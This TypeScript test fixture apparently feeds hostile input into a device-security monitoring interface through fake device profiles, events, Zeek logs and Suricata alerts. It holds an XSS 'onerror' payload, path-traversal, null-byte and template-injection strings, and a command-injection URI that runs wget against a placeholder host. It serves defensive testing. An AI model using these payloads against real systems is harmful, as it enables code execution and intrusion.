import { agoIso, guessedLogin } from '@/e2e/sample-camera'
import { ATTACKS, asLongAs, CONTROLS } from '@/e2e/hostile-strings'

/** Its id is its thing name: a formula, markup, a turn of direction and an address that would lead elsewhere. */
export const HOSTILE = `=<img src=x onerror=globalThis.vedetteWasHarmed=1>\u202Egpj.exe/../%00?a=b#c'"{{7*7}}`
/** What only a network monitor knows. */
export const ADDRESS = '192.168.93.7'
/** What acts on a terminal may stand in everything that is no name; it is taken, and made inert. */
const NASTY = [...ATTACKS, ...CONTROLS].filter((text) => !text.includes('\uD800'))
const nasty = (index: number): string => NASTY[index % NASTY.length] ?? ''

/** The profile of a device in which every claimed text is an attack, the longest that is taken. */
export const hostileProfile = (index: number) => ({
  type: nasty(index),
  vendor: asLongAs(256, nasty(index + 1)),
  model: nasty(index + 2),
  firmware: { version: nasty(index + 3), releasedAt: '2019-01-01T00:00:00Z' },
  operatingSystem: { name: nasty(index + 4), version: nasty(index + 5), supportEndsAt: '2020-01-01T00:00:00Z' },
  software: NASTY.map((name, at) => ({ name, version: nasty(at + 1) })),
  services: [{ transport: 'tcp', port: 23, name: nasty(index + 6), address: '0.0.0.0', authentication: 'none' }],
  network: {
    interfaces: [{ name: nasty(index + 7) }],
    segment: nasty(index + 8),
    resolvers: [nasty(index + 1).slice(0, 64)],
  },
  encryption: { tlsMinimum: '1.0', ciphers: [nasty(index + 9).slice(0, 64), 'RC4-MD5'] },
  certificates: [
    {
      subject: asLongAs(1_024, nasty(index + 10)),
      fingerprint: nasty(index + 11),
      notAfter: '2021-01-01T00:00:00Z',
      keyType: 'rsa',
      keyBits: 512,
      signatureAlgorithm: nasty(index + 12),
      selfSigned: true,
    },
  ],
  credentials: 'default',
  login: { accounts: NASTY },
  messaging: { publish: ['#', nasty(index)], subscribe: NASTY },
})

/** What happens on the device: every user, path, program and message is an attack. */
export const hostileEvents = (thingName: string) => [
  ...guessedLogin(thingName, '203.0.113.93').map((event, index) => ({ ...event, user: nasty(index) })),
  ...NASTY.flatMap((text, index) => {
    const envelope = { thingName, observedAt: agoIso(20 - index / 10) }
    return [
      {
        ...envelope,
        kind: 'process',
        action: 'started',
        name: text,
        path: `/tmp/${text}`,
        user: text,
        commandLine: text,
      },
      { ...envelope, kind: 'file', action: 'modified', path: `/usr/bin/${text}`, sha256: null },
      { ...envelope, kind: 'error', component: text, message: asLongAs(1_024, text) },
      { ...envelope, kind: 'application', name: text, message: text, value: 1 },
      { ...envelope, kind: 'network', action: 'joined', network: text, address: text },
    ]
  }),
]

/** A report with attacks for names of metrics, interfaces and values. */
export const hostileReport = {
  header: { report_id: 1, version: '1.0' },
  metrics: {
    listening_tcp_ports: { ports: [{ interface: nasty(1), port: 23 }], total: 1 },
    network_stats: { bytes_in: 1, bytes_out: 2, packets_in: 3, packets_out: 4 },
  },
  custom_metrics: Object.fromEntries(ATTACKS.map((name) => [name, [{ string_list: CONTROLS }]])),
}

const SECOND = 1
const lineOf = (minute: number, more: object) => ({
  ts: Date.now() / 1_000 - 3_600 + minute * 60 * SECOND,
  uid: nasty(minute),
  'id.orig_h': ADDRESS,
  'id.orig_p': 40_000 + minute,
  'id.resp_h': `203.0.113.${String((minute % 200) + 1)}`,
  'id.resp_p': 8_080,
  ...more,
})

/** By log of Zeek: a record in which each text is an attack, for each attack. */
const LOGS: Readonly<Record<string, (text: string, index: number) => object>> = {
  conn: (text) => ({
    proto: 'tcp',
    service: text,
    conn_state: 'SF',
    history: 'ShADadFf',
    local_orig: true,
    orig_pkts: 5,
  }),
  dns: (text) => ({ proto: 'udp', query: text, qtype_name: text, rcode_name: text, answers: [text, '203.0.113.9'] }),
  http: (text) => ({
    method: text,
    host: text,
    uri: `/cgi-bin/;wget http://x/${text}`,
    user_agent: text,
    referrer: text,
  }),
  ssl: (text) => ({ version: text, cipher: text, server_name: text, subject: text, issuer: text, established: true }),
  ssh: (text) => ({ client: text, server: text, auth_success: true, auth_attempts: 3 }),
  files: (text) => ({ source: text, mime_type: text, filename: text, seen_bytes: 9_000, is_orig: false }),
  notice: (text) => ({ note: text, msg: text, sub: text }),
  weird: (text) => ({ name: text, addl: text }),
}

/** Each log with its lines, and a last one that is no record. */
export const hostileLogs = (): { log: string; lines: string }[] =>
  Object.entries(LOGS).map(([log, of]) => ({
    log,
    lines: [
      ...NASTY.map((text, index) => JSON.stringify(lineOf(index, of(text, index)))),
      ...NASTY.map((text) => `{"ts":1,"uid":"${text}`.replaceAll(/[\r\n]/g, ' ')),
    ].join('\n'),
  }))

/** Alerts of Suricata about malware, whose words a rule's author, or who feeds the rules, chose. */
export const hostileAlerts = (): string =>
  NASTY.map((text, index) =>
    JSON.stringify({
      timestamp: agoIso(50 - index / 10).replace('Z', '000+0000'),
      flow_id: index + 1,
      event_type: 'alert',
      src_ip: ADDRESS,
      src_port: 40_000,
      dest_ip: '203.0.113.66',
      dest_port: 80,
      proto: 'TCP',
      app_proto: text,
      alert: {
        action: text,
        signature_id: 2_000_000 + index,
        signature: text,
        category: index % 2 === 0 ? 'A Network Trojan was detected' : text,
        severity: 1,
      },
      http: { hostname: text, url: text, http_user_agent: text, http_method: text },
    }),
  ).join('\n')
